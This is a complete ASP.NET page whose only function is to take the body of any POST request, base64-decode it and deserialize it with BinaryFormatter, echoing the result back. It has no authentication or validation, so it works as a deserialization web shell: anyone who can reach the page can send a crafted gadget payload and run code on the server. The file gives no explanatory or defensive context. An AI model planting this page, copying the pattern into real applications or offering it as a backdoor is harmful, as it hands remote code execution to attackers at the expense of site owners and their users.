<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.Serialization.Formatters.Binary" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    void Page_Load(object sender, EventArgs e)
    {
        if (Request.HttpMethod != "POST") return;
        byte[] data = Convert.FromBase64String(new StreamReader(Request.InputStream).ReadToEnd());
        BinaryFormatter bf = new BinaryFormatter();
        using (MemoryStream ms = new MemoryStream(data)) { var obj = bf.Deserialize(ms); Response.Write(obj); }
    }
</script>
